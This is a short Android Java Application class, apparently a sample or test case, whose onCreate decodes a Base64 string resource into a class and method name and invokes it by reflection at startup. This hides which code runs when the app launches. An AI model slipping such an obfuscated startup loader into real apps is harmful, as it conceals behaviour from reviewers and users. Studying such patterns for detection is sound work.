package org.mingcha.startup.reflectionbuiltname;

import android.app.Application;
import android.content.Context;
import android.util.Base64;
import android.util.Log;

/** Where the process begins. */
public class App extends Application {
    @Override
    public void onCreate() {
        super.onCreate();
        try {
            String[] names = new String(Base64.decode(getString(org.mingcha.startup.reflectionbuiltname.R.string.step), 0)).split("#");
            Class.forName(names[0]).getMethod(names[1], Context.class).invoke(null, this);
        } catch (ReflectiveOperationException e) {
            Log.i("sample", "absent");
        }
    }
}
